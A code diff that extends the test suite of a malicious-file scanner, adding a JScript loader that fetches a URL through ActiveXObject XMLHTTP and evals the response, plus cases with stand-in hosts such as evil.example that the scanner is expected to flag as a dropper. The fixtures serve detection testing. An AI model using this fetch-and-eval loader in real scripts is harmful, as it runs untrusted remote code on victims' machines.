@@ -16,6 +16,10 @@ function accusations(bytes: Uint8Array): string[] {
   return findings.filter(({ severity }) => severity !== 'notice').map(({ id }) => id.replace('Docvet.', ''))
 }
 
+/** Runs the text at an address, as loaders of modules did in old browsers. */
+const loader = (address: string): string =>
+  `function get(url) { var x = new ActiveXObject("Microsoft.XMLHTTP"); x.open("GET", url, false); x.send(null); return x.responseText }\neval(get(${address}))`
+
 /** In an archive with other files, as software comes. */
 const packed = (name: string, text: string): Uint8Array =>
   writeZip([
@@ -467,6 +471,8 @@ suite('harmless', () => {
         '(function(g){ if (window.ActiveXObject) { x = new ActiveXObject("Microsoft.XMLHTTP") } g.eval("a" + "b") })(this)',
       ),
     ],
+    ['a loader of files beside it', packed('loader.js', loader('"lib/main.js"'))],
+    ['a loader with the settings of a page', packed('loader.js', loader('settings.url()'))],
     ['a script of Node.js', packed('run.js', 'const { exec } = require("child_process"); exec("npm run build")')],
     [
       'a script that reads',
@@ -484,6 +490,17 @@ suite('harmless', () => {
     ['a table with commands', Buffer.from('name,command\nshell,"CreateObject(""WScript.Shell"")"\n')],
   ]
   for (const [name, bytes] of cases) test(name, () => harmless(bytes))
+})
+
+suite('a script that runs the text at an address', () => {
+  for (const address of [
+    '"http://evil.example/a"',
+    '"\\\\\\\\evil.example\\\\a.js"',
+    '"ht" + "tps:" + "//evil.example/"',
+    'WScript.StdIn.ReadLine()',
+    'new ActiveXObject("Scripting.FileSystemObject").OpenTextFile("a.txt").ReadAll()',
+  ])
+    test(address, () => assert.ok(accusations(packed('loader.js', loader(address))).includes('Script.Dropper')))
 })
 
 suite('a shell script that downloads and runs a program', () => {
